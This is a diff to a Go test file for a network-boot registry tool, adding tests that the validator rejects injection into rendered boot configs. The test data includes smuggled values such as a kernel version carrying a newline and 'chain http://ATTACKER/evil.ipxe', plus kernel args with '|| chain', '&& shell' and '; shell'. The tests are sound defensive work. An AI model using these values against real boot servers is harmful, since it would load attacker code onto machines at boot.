@@ -196,11 +196,14 @@ func must(t *testing.T, err error) {
 func TestEncodeRoundTripOddValues(t *testing.T) {
 	odd := []string{
 		strings.Repeat("long words, with: colons # and hashes ", 10),
-		`quote "double" and 'single'`, "yes", "null", "0x1F", "- dash", "[list]", "{map}", "*alias", "&anchor", "!tag", "%", "@", "`", "  padded  ", "tab\there", "ünïcödé",
+		`quote "double" and 'single'`, "yes", "null", "0x1F", "- dash", "[list]", "{map}", "*alias", "&anchor", "!tag", "%", "@", "`", "  padded  ", "ünïcödé",
 	}
 	var r Registry
 	for i, c := range odd {
-		s := Slave{IP: netip.AddrFrom4([4]byte{192, 168, 1, byte(10 + i)}), MAC: "00:00:00:00:00:" + string("0123456789abcdef"[i%16]) + string("0123456789abcdef"[i/16]), Comment: c, KernelArgs: c}
+		s := Slave{IP: netip.AddrFrom4([4]byte{192, 168, 1, byte(10 + i)}), MAC: "02:00:00:00:00:" + string("0123456789abcdef"[i%16]) + string("0123456789abcdef"[i/16]), Comment: c}
+		if CheckKernelArgs(c) == nil { // the YAML-odd ones a kernel line may carry ("yes", "- dash", "!tag" ...)
+			s.KernelArgs = c
+		}
 		must(t, r.Add(s, testNet))
 	}
 	data, err := Encode(&r)
@@ -214,5 +217,71 @@ func TestEncodeRoundTripOddValues(t *testing.T) {
 		if got.Slaves[i] != r.Slaves[i] {
 			t.Errorf("slave %d: %+v, want %+v", i, got.Slaves[i], r.Slaves[i])
 		}
+	}
+}
+
+// TestNormalizeRejectsInjection: values that would add lines or commands to
+// a rendered boot config, or that no network card has, are refused with a
+// one-line error naming the value (issue 19, items 2 and 12).
+func TestNormalizeRejectsInjection(t *testing.T) {
+	base := Slave{IP: ip("192.168.1.31"), MAC: "00:02:a5:04:3b:31"}
+	for _, tc := range []struct {
+		edit func(*Slave)
+		want string
+	}{
+		{func(s *Slave) { s.Kernel = "6.1.0/vmlinuz\nchain http://ATTACKER/evil.ipxe\n#" }, `invalid kernel version "6.1.0/vmlinuz\nchain`},
+		{func(s *Slave) { s.Kernel = "6.1.0 initrd=x" }, "invalid kernel version"},
+		{func(s *Slave) { s.KernelArgs = "quiet\nLABEL evil" }, `invalid kernel args "quiet\nLABEL evil": character '\n' not allowed`},
+		{func(s *Slave) { s.KernelArgs = "x=${net0/ip}" }, `character '$' not allowed`},
+		{func(s *Slave) { s.KernelArgs = "quiet || chain http://evil/x" }, `character '|' not allowed`},
+		{func(s *Slave) { s.KernelArgs = "quiet && shell" }, `character '&' not allowed`},
+		{func(s *Slave) { s.KernelArgs = "quiet ; shell" }, `character ';' not allowed`},
+		{func(s *Slave) { s.KernelArgs = "#x" }, `character '#' not allowed`},
+		{func(s *Slave) { s.KernelArgs = `a='b' c="d"` }, `character '\'' not allowed`},
+		{func(s *Slave) { s.KernelArgs = "x}" }, `character '}' not allowed`},
+		{func(s *Slave) { s.KernelArgs = "a\tb" }, `character '\t' not allowed`},
+		{func(s *Slave) { s.KernelArgs = strings.Repeat("a", MaxKernelArgs+1) }, "invalid kernel args (1025 bytes): expected at most 1024"},
+		{func(s *Slave) { s.BootServer = "s1\nx" }, `invalid boot server "s1\nx"`},
+		{func(s *Slave) { s.BootServer = "s 1" }, "invalid boot server"},
+		{func(s *Slave) { s.Comment = "\x1b[2Jgone" }, `invalid comment "\x1b[2Jgone": character '\x1b' not allowed`},
+		{func(s *Slave) { s.Comment = "evil\u202eright-to-left" }, "invalid comment"},
+		{func(s *Slave) { s.Comment = "a\u2028b" }, "invalid comment"},
+		{func(s *Slave) { s.Comment = "\xff" }, "expected UTF-8 text"},
+		{func(s *Slave) { s.MAC = "ff:ff:ff:ff:ff:ff" }, "invalid MAC ff:ff:ff:ff:ff:ff: the broadcast address; expected a network card's own (unicast) address"},
+		{func(s *Slave) { s.MAC = "01:00:5E:00:00:01" }, "invalid MAC 01:00:5e:00:00:01: a multicast address"},
+		{func(s *Slave) { s.MAC = "33-33-00-00-00-01" }, "a multicast address"},
+		{func(s *Slave) { s.MAC = "000000000000" }, "invalid MAC 00:00:00:00:00:00: all zeros"},
+	} {
+		s := base
+		tc.edit(&s)
+		err := s.Normalize(testNet)
+		if err == nil || !strings.Contains(err.Error(), tc.want) {
+			t.Errorf("Normalize(%+v) = %v, want %q", s, err, tc.want)
+			continue
+		}
+		if strings.Contains(err.Error(), "\n") {
+			t.Errorf("error is not one line: %q", err)
+		}
+	}
+	// What a kernel line legitimately carries still passes, spaces folded.
+	s := base
+	s.Kernel, s.BootServer, s.Comment = "6.1.0-57-amd64", "192.168.1.2", "rack 3, top — ünïcödé"
+	s.KernelArgs = "  console=ttyS0,115200n8   init=/sbin/init  ip=::::n31:eth0:dhcp acpi_osi=!Linux nfsrootdebug loglevel=7 rd.break mem=512M@1G "
+	must(t, s.Normalize(testNet))
+	if want := "console=ttyS0,115200n8 init=/sbin/init ip=::::n31:eth0:dhcp acpi_osi=!Linux nfsrootdebug loglevel=7 rd.break mem=512M@1G"; s.KernelArgs != want {
+		t.Errorf("kernel args normalized to %q, want %q", s.KernelArgs, want)
+	}
+	s.BootServer = "s1"
+	must(t, s.Normalize(testNet))
+}
+
+// TestDecodeRejectsHandEditedInjection: the same checks hold for a registry
+// edited by hand, with the line of the bad entry.
+func TestDecodeRejectsHandEditedInjection(t *testing.T) {
+	st := Store{Path: "slaves.yaml", Network: testNet}
+	data := "slaves:\n  - ip: 192.168.1.21\n    mac: 00:02:a5:04:3b:21\n  - ip: 192.168.1.22\n    mac: 00:02:a5:04:3b:22\n    kernel: \"6.1.0\\nchain http://evil/x.ipxe\"\n"
+	_, err := st.Decode([]byte(data))
+	if err == nil || !strings.Contains(err.Error(), `registry slaves.yaml:4: slave 2: invalid kernel version "6.1.0\nchain http://evil/x.ipxe"`) {
+		t.Fatalf("Decode = %v", err)
 	}
 }
